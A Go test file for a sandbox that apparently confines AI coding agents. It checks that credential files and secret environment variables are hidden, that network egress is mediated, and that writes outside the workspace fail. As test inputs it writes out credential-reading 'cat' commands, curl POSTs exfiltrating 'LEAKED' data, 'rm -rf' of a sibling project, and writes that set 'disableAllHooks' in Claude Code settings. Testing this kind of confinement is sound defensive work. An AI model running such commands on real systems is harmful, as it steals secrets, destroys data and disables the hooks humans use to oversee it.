package confine

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/laserkit/laserkit/internal/testenv"
)

func need(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		testenv.LookPath(t, tool)
	}
}

// inside runs script under sh in a tree confined by spec, in dir, with
// env added, and returns its combined output.
func inside(t *testing.T, spec Spec, dir, script string, env ...string) string {
	t.Helper()
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	h, err := Wrap(cmd, self(t), spec)
	if err != nil {
		t.Fatal(err)
	}
	if h != nil {
		t.Fatal("a tree without a network of its own got a handoff")
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	_ = cmd.Run()
	return out.String()
}

// runDir is a run's private directory as laserbrain run makes it.
func runDir(t *testing.T) string {
	t.Helper()
	d := filepath.Join(t.TempDir(), Marker+"t")
	if err := os.MkdirAll(d, 0o755); err != nil {
		t.Fatal(err)
	}
	return d
}

// The places credentials are kept cannot be read inside, whatever reads
// them; the real ssh agent holding a key answers nobody inside; a path a
// person passes through stays readable.
func TestCredentialsUnreadable(t *testing.T) {
	need(t, "ssh-keygen", "ssh-agent", "ssh-add")
	root := t.TempDir()
	home := filepath.Join(root, "home")
	work := filepath.Join(home, "src", "app")
	files := map[string]string{
		".ssh/id_ed25519":         "",
		".aws/credentials":        "[default]\naws_secret_access_key = AKIASECRET\n",
		".netrc":                  "machine example.com login me password NETRCSECRET\n",
		".config/gh/hosts.yml":    "github.com:\n  oauth_token: GHSECRET\n",
		".npmrc":                  "//registry.npmjs.org/:_authToken=NPMSECRET\n",
		".docker/config.json":     `{"auths":{"x":{"auth":"DOCKERSECRET"}}}`,
		".git-credentials":        "https://me:GITSECRET@example.com\n",
		".kube/config":            "token: KUBESECRET\n",
		".cargo/credentials.toml": "[registry]\ntoken = \"CARGOSECRET\"\n",
		".pypirc":                 "password = PYPISECRET\n",
	}
	for f, data := range files {
		write(t, filepath.Join(home, f), data)
	}
	key := filepath.Join(home, ".ssh", "id_ed25519")
	os.Remove(key)
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	write(t, filepath.Join(work, "main.go"), "package main\n")
	sock := filepath.Join(root, "agent.sock")
	agent := exec.Command("ssh-agent", "-D", "-a", sock)
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = agent.Process.Kill(); _ = agent.Wait() })
	deadline := time.Now().Add(10 * time.Second)
	for {
		add := exec.Command("ssh-add", key)
		add.Env = append(os.Environ(), "SSH_AUTH_SOCK="+sock)
		if add.Run() == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the ssh agent did not take the key within 10s")
		}
		time.Sleep(20 * time.Millisecond)
	}
	// Outside, the agent holds the key: the oracle that it is there.
	list := exec.Command("ssh-add", "-l")
	list.Env = append(os.Environ(), "SSH_AUTH_SOCK="+sock)
	if out, err := list.CombinedOutput(); err != nil || !strings.Contains(string(out), "ED25519") {
		t.Fatalf("outside, the ssh agent lists %q (%v)", out, err)
	}
	getenv := func(k string) string {
		if k == "SSH_AUTH_SOCK" {
			return sock
		}
		return ""
	}
	pass := filepath.Join(home, ".npmrc")
	spec, rep := Plan(Options{Dir: work, UserHome: home, RunDir: runDir(t), Credentials: CredentialPaths(home, getenv), Pass: []string{pass}})
	if len(rep.Passed) != 1 || rep.Passed[0].Path != pass {
		t.Errorf("passed through: %v, want %s", rep.Passed, pass)
	}
	var reads []string
	for f := range files {
		if f != ".npmrc" {
			reads = append(reads, "cat "+filepath.Join(home, f)+" 2>&1")
		}
	}
	out := inside(t, spec, work, strings.Join(reads, "; ")+"; ls -a "+filepath.Join(home, ".ssh")+
		"; SSH_AUTH_SOCK="+sock+" ssh-add -l; echo ssh-add=$?; cat "+pass, "SSH_AUTH_SOCK="+sock)
	for _, secret := range []string{"AKIASECRET", "NETRCSECRET", "GHSECRET", "DOCKERSECRET", "GITSECRET", "KUBESECRET", "CARGOSECRET", "PYPISECRET", "PRIVATE KEY", "ED25519"} {
		if strings.Contains(out, secret) {
			t.Errorf("%s is readable inside:\n%s", secret, out)
		}
	}
	if !strings.Contains(out, "NPMSECRET") {
		t.Errorf("the path passed through is not readable inside:\n%s", out)
	}
	if strings.Contains(out, "ssh-add=0") {
		t.Errorf("the ssh agent answered inside:\n%s", out)
	}
	// And outside nothing changed.
	if b, _ := os.ReadFile(filepath.Join(home, ".netrc")); !strings.Contains(string(b), "NETRCSECRET") {
		t.Errorf("the .netrc outside is %q", b)
	}
}

func TestScrubEnv(t *testing.T) {
	env := []string{"PATH=/bin", "HOME=/h", "GITHUB_TOKEN=g", "AWS_SECRET_ACCESS_KEY=a", "AWS_ACCESS_KEY_ID=i", "NPM_TOKEN=n",
		"ANTHROPIC_API_KEY=k", "PGPASSWORD=p", "SSH_AUTH_SOCK=/s", "DATABASE_URL=postgres://u:pw@h/d", "GIT_AUTHOR_NAME=me",
		"TOKENIZERS_PARALLELISM=false", "LASERBRAIN_RUN=r", "MY_SERVICE_URL=https://example.com/x", "CI_JOB_TOKEN=c",
		"TWINE_PASSWORD=t", "CARGO_REGISTRY_TOKEN=c", "GOOGLE_APPLICATION_CREDENTIALS=/g.json", "KUBECONFIG=/k"}
	out, removed := ScrubEnv(env, []string{"ANTHROPIC_API_KEY"})
	want := []string{"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "CARGO_REGISTRY_TOKEN", "CI_JOB_TOKEN", "DATABASE_URL", "GITHUB_TOKEN",
		"GOOGLE_APPLICATION_CREDENTIALS", "KUBECONFIG", "NPM_TOKEN", "PGPASSWORD", "SSH_AUTH_SOCK", "TWINE_PASSWORD"}
	if strings.Join(removed, " ") != strings.Join(want, " ") {
		t.Errorf("removed %v\nwant    %v", removed, want)
	}
	kept := strings.Join(out, " ")
	for _, k := range []string{"PATH=", "HOME=", "ANTHROPIC_API_KEY=k", "GIT_AUTHOR_NAME=", "TOKENIZERS_PARALLELISM=", "LASERBRAIN_RUN=", "MY_SERVICE_URL="} {
		if !strings.Contains(kept, k) {
			t.Errorf("%s was taken out: %v", k, out)
		}
	}
}

// The tree's network is its own: what the policy allows goes through the
// mediator outside (by the proxy or a listener for the endpoint); any other
// connection is refused, nothing reaches a listener on the host's
// loopback, and every attempt is recorded.
func TestNetworkMediated(t *testing.T) {
	need(t, "curl")
	exe := self(t)
	if err := CheckNet(exe); err != nil {
		testenv.SkipOrFail(t, "no network namespace here: %v", err)
	}
	model := listen(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "model says hi") })
	var got bytes.Buffer
	var gotMu sync.Mutex
	exfil, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { exfil.Close() })
	go func() {
		for {
			c, err := exfil.Accept()
			if err != nil {
				return
			}
			b, _ := io.ReadAll(c)
			gotMu.Lock()
			got.Write(b)
			gotMu.Unlock()
			c.Close()
		}
	}()
	mh, mp, _ := ParseEndpoint(model)
	proxy := "127.0.0.1:3128"
	spec := Spec{Writable: []string{os.TempDir()}, Root: os.Geteuid() == 0, Net: &Net{Listen: []string{proxy, model}}}
	var mu sync.Mutex
	var attempts []Attempt
	m := &Mediator{Policy: NetPolicy{Allow: []NetRule{{ID: "model endpoint", Host: mh, Port: mp}}}, Proxy: proxy,
		Direct: map[string]string{model: model}, Record: func(a Attempt) { mu.Lock(); attempts = append(attempts, a); mu.Unlock() },
		HowToAllow: func(e string) string { return "laserbrain authorize --run R --connect " + e }}
	script := strings.Join([]string{
		"curl -sS http://" + model + "/via-proxy; echo",
		"curl -sS --noproxy '*' http://" + model + "/direct; echo",
		"curl -sS -f -d LEAKED http://" + exfil.Addr().String() + "/; echo curl-proxied=$?",
		"curl -sS -d LEAKED http://" + exfil.Addr().String() + "/; echo",
		"curl -sS --noproxy '*' -d LEAKED http://" + exfil.Addr().String() + "/; echo curl-direct=$?",
		"curl -sS -x '' --connect-timeout 3 https://example.com/; echo curl-dns=$?",
	}, "\n")
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.Env = append(os.Environ(), ProxyEnv(proxy)...)
	h, err := Wrap(cmd, exe, spec)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lns, err := h.Listeners(10 * time.Second)
	if err != nil {
		t.Fatal(err)
	}
	m.Serve(lns)
	_ = cmd.Wait()
	m.Close()
	o := out.String()
	if strings.Count(o, "model says hi") != 2 {
		t.Errorf("the model endpoint was not reached both ways:\n%s", o)
	}
	if !strings.Contains(o, "the connection to "+exfil.Addr().String()+" is refused (no rule allows it)") {
		t.Errorf("the refusal does not say why:\n%s", o)
	}
	for _, bad := range []string{"curl-proxied=0", "curl-direct=0", "curl-dns=0"} {
		if strings.Contains(o, bad) {
			t.Errorf("%s:\n%s", bad, o)
		}
	}
	gotMu.Lock()
	if got.Len() > 0 {
		t.Errorf("the host's listener received %q", got.String())
	}
	gotMu.Unlock()
	var allowed, refused int
	for _, a := range attempts {
		switch {
		case a.Answer == NetAllowed && a.Endpoint == model && a.Received > 0:
			allowed++
		case a.Answer == NetRefused && a.Endpoint == exfil.Addr().String() && a.Rule == RuleNone && a.Via == "http" && a.Method == "POST":
			refused++
		}
	}
	if allowed != 2 || refused != 2 {
		t.Errorf("attempts recorded: %+v", attempts)
	}
}

// listen serves h on 127.0.0.1 and returns its address.
func listen(t *testing.T, h http.HandlerFunc) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().String()
}

func TestNetPolicyDecide(t *testing.T) {
	p := NetPolicy{
		Allow: []NetRule{{ID: "model", Host: "127.0.0.1", Port: 8080}, {ID: "registry", Host: "registry.npmjs.org", Port: 443, Reads: true},
			{ID: "debian", Host: "deb.debian.org", Port: 80, Reads: true}, {ID: "policy:corp", Host: "*.corp.example", Port: 443}},
		Never: []NetRule{{ID: "the laserbrain store", Host: "127.0.0.1", Port: 5432}},
	}
	for _, c := range []struct {
		host   string
		port   uint16
		method string
		want   NetAnswer
		rule   string
	}{
		{"127.0.0.1", 8080, "", NetAllowed, "model"},
		{"localhost", 8080, "POST", NetAllowed, "model"},
		{"127.0.0.1", 8081, "", NetRefused, RuleNone},
		{"127.0.0.1", 5432, "", NetRefused, "the laserbrain store"},
		{"Registry.NPMJS.org.", 443, "", NetAllowed, "registry"},
		{"deb.debian.org", 80, "GET", NetAllowed, "debian"},
		{"deb.debian.org", 80, "PUT", NetRefused, "debian (reads only: PUT)"},
		{"git.corp.example", 443, "", NetAllowed, "policy:corp"},
		{"corp.example", 443, "", NetRefused, RuleNone},
		{"evilcorp.example", 443, "", NetRefused, RuleNone},
	} {
		got, rule := p.Decide(c.host, c.port, c.method)
		if got != c.want || rule != c.rule {
			t.Errorf("%s:%d %s: %s (%s), want %s (%s)", c.host, c.port, c.method, got, rule, c.want, c.rule)
		}
	}
	for in, want := range map[string]string{"http://127.0.0.1:8080/v1": "127.0.0.1:8080", "https://api.anthropic.com": "api.anthropic.com:443",
		"http://localhost:9": "127.0.0.1:9", "http://[::1]:7/x": "[::1]:7", "example.com:22": "example.com:22"} {
		h, p, err := ParseEndpoint(in)
		if err != nil || Endpoint(h, p) != want {
			t.Errorf("ParseEndpoint(%q) = %s (%v), want %s", in, Endpoint(h, p), err, want)
		}
	}
	for _, bad := range []string{"ftp://x", "example.com", "x:0", "x:70000"} {
		if _, _, err := ParseEndpoint(bad); err == nil {
			t.Errorf("ParseEndpoint(%q) took it", bad)
		}
	}
}

var _ = strconv.Itoa

// Writes go only where an agent works: its repository, the temporary
// directories and its client's state. A sibling project and data in the
// home, the home itself (even under /tmp) and the system are read-only;
// settings files that do not exist yet cannot be made, in the client's
// state directory, in the repository or in the system's policy places.
func TestWritesOnlyWhereAgentWorks(t *testing.T) {
	root := t.TempDir()
	home := filepath.Join(root, "home")
	work := filepath.Join(home, "src", "app")
	sibling := filepath.Join(home, "src", "other", "main.go")
	data := filepath.Join(home, "data", "app.db")
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("git", "init", "-q", work).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	write(t, sibling, "package other\n")
	write(t, data, "rows\n")
	state := filepath.Join(home, ".claude")
	settings := filepath.Join(state, "settings.json")
	claudeJSON := filepath.Join(home, ".claude.json")
	codexHooks := filepath.Join(work, ".codex", "hooks.json")
	mcp := filepath.Join(work, ".mcp.json")
	managed := "/etc/claude-code-test-" + strconv.Itoa(os.Getpid()) + "/managed-settings.json"
	files := []Protected{{settings, "Claude Code's user settings"}, {claudeJSON, "Claude Code's user state"},
		{codexHooks, "Codex's project hooks"}, {mcp, "Claude Code's project MCP servers"}, {managed, "Claude Code's managed settings"}}
	spec, rep := Plan(Options{Dir: work, UserHome: home, RunDir: runDir(t), Files: files, State: []string{state}, Create: true})
	t.Cleanup(func() {
		for _, d := range Created(spec) {
			os.Remove(d)
		}
	})
	if len(spec.Carve) != 1 || spec.Carve[0] != home {
		t.Errorf("carved %v, want the home under /tmp", spec.Carve)
	}
	if b, err := os.ReadFile(settings); err != nil || string(b) != "{}\n" {
		t.Errorf("the placeholder is %q (%v)", b, err)
	}
	for _, want := range []string{filepath.Join(work, ".codex"), mcp} {
		found := false
		for _, d := range Created(spec) {
			found = found || d == want
		}
		if !found {
			t.Errorf("%s was not made to hold it: %v", want, Created(spec))
		}
	}
	var unwritable []string
	for _, u := range rep.Unwritable {
		unwritable = append(unwritable, u.Path)
	}
	if !strings.Contains(strings.Join(unwritable, " "), managed) || !strings.Contains(strings.Join(unwritable, " "), claudeJSON) {
		t.Errorf("unwritable: %v, want %s and %s", unwritable, managed, claudeJSON)
	}
	if len(rep.Absent) != 0 {
		t.Errorf("held by nothing: %v", rep.Absent)
	}
	steps := []struct{ name, sh string }{
		{"delete a sibling project", "rm -rf " + filepath.Dir(sibling)},
		{"drop the data", "rm -f " + data},
		{"truncate the data", ": > " + data},
		{"write the user's settings", `echo '{"disableAllHooks":true}' > ` + settings},
		{"replace the user's settings", `echo '{"disableAllHooks":true}' > ` + settings + ".new && mv " + settings + ".new " + settings},
		{"create ~/.claude.json", `echo '{"mcpServers":{}}' > ` + claudeJSON},
		{"create the project's codex hooks", "mkdir -p " + filepath.Dir(codexHooks) + " && echo '{}' > " + codexHooks},
		{"create .mcp.json", "rmdir " + mcp + "; echo '{}' > " + mcp},
		{"create the managed settings", "mkdir -p " + filepath.Dir(managed) + " && echo '{}' > " + managed},
		{"write in the home", "echo x > " + filepath.Join(home, "new")},
		{"write in the system", "echo x > /usr/local/bin/laserbrain-test-" + strconv.Itoa(os.Getpid())},
	}
	for _, s := range steps {
		out := inside(t, spec, work, s.sh+"; echo status=$?")
		if strings.Contains(out, "status=0") {
			t.Errorf("%s: succeeded inside: %s", s.name, out)
		}
	}
	out := inside(t, spec, work, "echo ok > "+filepath.Join(work, "new.txt")+" && mkdir -p "+filepath.Join(state, "projects")+
		" && echo ok > "+filepath.Join(state, "projects", "s.jsonl")+" && echo ok > /tmp/laserbrain-confine-test.$$ && rm /tmp/laserbrain-confine-test.$$ && echo written")
	if !strings.Contains(out, "written") {
		t.Errorf("a write where an agent works failed: %s", out)
	}
	if b, _ := os.ReadFile(sibling); string(b) != "package other\n" {
		t.Errorf("the sibling is %q", b)
	}
	if b, _ := os.ReadFile(data); string(b) != "rows\n" {
		t.Errorf("the data is %q", b)
	}
	if b, _ := os.ReadFile(settings); string(b) != "{}\n" {
		t.Errorf("the user's settings are %q", b)
	}
	for _, p := range []string{claudeJSON, codexHooks, managed, filepath.Join(home, "new")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was made", p)
		}
	}
	if fi, err := os.Stat(mcp); err != nil || !fi.IsDir() {
		t.Errorf(".mcp.json is no longer the placeholder directory: %v", err)
	}
}
